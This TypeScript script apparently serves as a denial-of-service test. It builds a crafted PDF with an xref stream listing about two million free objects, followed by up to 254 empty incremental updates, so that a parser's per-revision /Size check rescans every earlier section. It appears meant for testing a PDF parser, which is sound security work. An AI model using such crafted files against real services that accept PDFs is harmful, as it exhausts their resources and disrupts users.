// Denial of service probe: one update whose xref stream lists ~2M free objects (a few KB compressed), then
// up to 254 empty updates: parsePdf's per-revision /Size check walks every earlier section again.
import { writeFileSync } from "node:fs";
import { deflateSync } from "node:zlib";
import { lastStartxref, SAMPLE } from "./lib.js";

export function buildDos(base: Uint8Array, bigCount: number, tail: number, trailer: string, first: number): Uint8Array {
  const parts: Buffer[] = [Buffer.from(base)];
  let pos = base.length;
  const emit = (s: string | Uint8Array) => {
    const b = typeof s === "string" ? Buffer.from(s, "latin1") : Buffer.from(s);
    parts.push(b);
    pos += b.length;
  };
  const size = first + bigCount + 1;
  // Revision: an xref stream (object `first + bigCount`) listing `bigCount` free objects, one byte each.
  const xnum = first + bigCount;
  const at = pos;
  const rows = Buffer.alloc(bigCount + 7);
  // the xref stream's own row (W [1 4 2]) would be uneven: use W [1 4 0] for everything
  const w = Buffer.alloc((bigCount + 1) * 5);
  w[bigCount * 5] = 1;
  w.writeUInt32BE(at, bigCount * 5 + 1);
  void rows;
  const z = deflateSync(w, { level: 9 });
  emit(
    `${xnum} 0 obj\n<< /Type /XRef /Size ${size} /W [1 4 0] /Index [${first} ${bigCount + 1}] /Prev ${lastStartxref(base)} ${trailer} /Filter /FlateDecode /Length ${z.length} >>\nstream\n`,
  );
  emit(z);
  emit("\nendstream\nendobj\n");
  emit(`startxref\n${at}\n%%EOF\n`);
  let prev = at;
  for (let i = 0; i < tail; i++) {
    const x = pos;
    emit(`xref\n0 1\n0000000000 65535 f\r\ntrailer\n<< /Size ${size} /Prev ${prev} ${trailer} >>\nstartxref\n${x}\n%%EOF\n`);
    prev = x;
  }
  return new Uint8Array(Buffer.concat(parts));
}

if (process.argv[2]) {
  const b = buildDos(SAMPLE, Number(process.argv[2]), Number(process.argv[3]), "/Root 2 0 R /Info 3 0 R", 26);
  writeFileSync(process.argv[4] ?? "/tmp/dos.pdf", b);
  console.log(b.length);
}
